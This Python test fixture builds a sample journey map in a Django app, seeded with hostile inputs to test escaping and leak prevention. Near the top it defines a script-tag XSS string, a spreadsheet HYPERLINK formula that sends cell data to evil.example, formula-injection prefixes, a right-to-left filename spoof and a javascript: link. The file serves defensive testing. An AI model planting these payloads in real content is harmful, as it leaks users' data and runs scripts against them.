"""A map that holds every kind of content, much of it hostile, built through the services."""

from __future__ import annotations

import datetime
from decimal import Decimal
from typing import Any

from django.contrib.auth import get_user_model

from maps import services
from maps.models import JourneyMap, MapKind, Persona, Sticky

SCRIPT = '<script>alert("pwned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
RTL = "مرحبا \u202egnp.exe"  # Arabic, then a right-to-left override that flips what follows
CJK = "露营很开心｜厕所太远"
MARKUP = "**bold** _it_ [link](javascript:alert(1)) `code` | pipe\n# heading\n- list"
HOSTILE = [
    SCRIPT,
    FORMULA,
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    RTL,
    CJK,
    MARKUP,
    "a & b < c > d \" '",
]
SECRETS = ("HIDDEN-NOTE-TEXT", "DELETED-NOTE-TEXT")


def build(owner: Any, mia: Any, ravi: Any) -> JourneyMap:
    """Owner, Mia and Ravi map a camping trip. Returns the map; see SECRETS for what must not leak."""
    owner.email = "olivia@example.com"
    owner.save(update_fields=["email"])
    persona = Persona.objects.create(
        owner=owner, name=f"Mei {SCRIPT}", role=CJK, quote=FORMULA, description=RTL, pains=MARKUP
    )
    journey_map = services.map_create(
        owner=owner, title=f"Camping {SCRIPT} {CJK}", kind=MapKind.CURRENT_STATE
    )
    services.scope_update(
        journey_map=journey_map,
        author=owner,
        data={
            "persona": persona,
            "scenario": f"Plan a weekend {FORMULA}",
            "goal": RTL,
            "journey_start": "Searches for a campsite",
            "journey_end": MARKUP,
            "trigger": "Needs a break\nfrom the city",
            "needs": CJK,
            "outcome": SCRIPT,
            "narrative": "Line one\n\nLine | two",
        },
    )
    stages = list(journey_map.stages.all())
    services.stage_rename(journey_map=journey_map, author=owner, stage=stages[1], name=f"Book {SCRIPT}"[:60])
    lanes = {lane.key: lane for lane in journey_map.lanes.all()}

    def note(author: Any, stage: int, lane: str, text: str, **style: Any) -> Sticky:
        return services.sticky_create(
            journey_map=journey_map, author=author, stage=stages[stage], lane=lanes[lane], text=text, **style
        ).sticky

    notes = [note(owner, i % 5, "actions", text) for i, text in enumerate(HOSTILE)]
    call = note(
        mia,
        1,
        "touchpoints",
        "Phone call and a bank transfer",
        channel="phone",
        evidence="research",
        colour="blue",
        is_question=True,
        is_micro_moment=True,
    )
    thought = note(ravi, 1, "thoughts", "Did the booking go through?", is_decision=True, is_aha=True)
    jam = note(
        mia,
        2,
        "pains",
        f"An hour in a traffic jam {FORMULA}",
        severity=3,
        reach_share=Decimal("42.5"),
        reach_source="Survey, 2025",
        evidence="anecdote",
    )
    charcoal = note(ravi, 2, "pains", "Charcoal took two hours to light", severity=2, reach_count=120)
    toilets = note(owner, 2, "pains", f"Toilets far from the pitch {CJK}", severity=1)
    help_desk = note(
        mia,
        2,
        "opportunities",
        f"Starter kit at check-in {SCRIPT}",
        owner="Campsite ops | team",
        status="planned",
        due_on=datetime.date(2027, 1, 15),
        colour="green",
    )
    signs = note(ravi, 3, "opportunities", "Clear signs from the motorway", owner="Marketing", status="idea")
    for pain in (jam, charcoal):
        services.sticky_link(journey_map=journey_map, author=owner, sticky=help_desk, to=pain, linked=True)
    services.sticky_link(journey_map=journey_map, author=owner, sticky=call, to=thought, linked=True)
    # Checked: what settled it travels with the note (`sticky.settle`).
    services.sticky_settle(
        journey_map=journey_map,
        author=owner,
        sticky=charcoal,
        evidence="research",
        source=f"Exit survey {CJK}",
        note=FORMULA,
    )
    services.sticky_move(
        journey_map=journey_map,
        author=owner,
        sticky=notes[0],
        stage=stages[0],
        lane=lanes["actions"],
        position=1,
    )

    hidden = note(mia, 0, "thoughts", SECRETS[0], hidden=True)
    services.sticky_link(journey_map=journey_map, author=owner, sticky=signs, to=hidden, linked=True)
    gone = note(ravi, 4, "thoughts", SECRETS[1])
    services.sticky_link(journey_map=journey_map, author=owner, sticky=signs, to=gone, linked=True)
    services.sticky_delete(journey_map=journey_map, author=ravi, sticky=gone)

    for author, values in ((owner, [1, -1, 2, -2, 1]), (mia, [2, -2, 3, -3, 0]), (ravi, [1, 0, 2, -1, 2])):
        for stage, value in zip(stages, values, strict=True):
            services.emotion_rate(journey_map=journey_map, author=author, stage=stage, value=value)
    # Given while ratings were private and never revealed: counted nowhere in an export.
    late = get_user_model().objects.create_user("late-rater", first_name="Late")
    services.emotion_rate(journey_map=journey_map, author=late, stage=stages[4], value=-3, hidden=True)
    services.stage_annotate(
        journey_map=journey_map, author=owner, stage=stages[3], text=f"The storm {SCRIPT}"
    )
    services.metric_add(
        journey_map=journey_map,
        author=owner,
        stage=stages[1],
        kind="nps",
        value=Decimal("-12"),
        source=FORMULA,
    )
    services.metric_add(
        journey_map=journey_map,
        author=owner,
        stage=stages[1],
        kind="custom",
        label="Calls per booking",
        value=Decimal("2.25"),
        unit="×",
    )

    services.vote_start(journey_map=journey_map, author=owner, lane=lanes["pains"], budget=3, stacking=True)
    for voter, picks in ((owner, [jam, jam, toilets]), (mia, [jam, charcoal]), (ravi, [charcoal])):
        for pick in picks:
            services.vote_cast(journey_map=journey_map, author=voter, sticky=pick, add=True)
    services.vote_close(journey_map=journey_map, author=owner)
    services.vote_start(journey_map=journey_map, author=owner, lane=lanes["opportunities"])
    services.vote_cast(journey_map=journey_map, author=mia, sticky=help_desk, add=True)  # open: secret

    services.insight_add(journey_map=journey_map, author=mia, question="frustrating", text=f"Signs {FORMULA}")
    services.insight_add(journey_map=journey_map, author=ravi, question="needs", text=CJK)
    services.lane_set_visible(journey_map=journey_map, author=owner, lane=lanes["thoughts"], visible=False)
    return journey_map
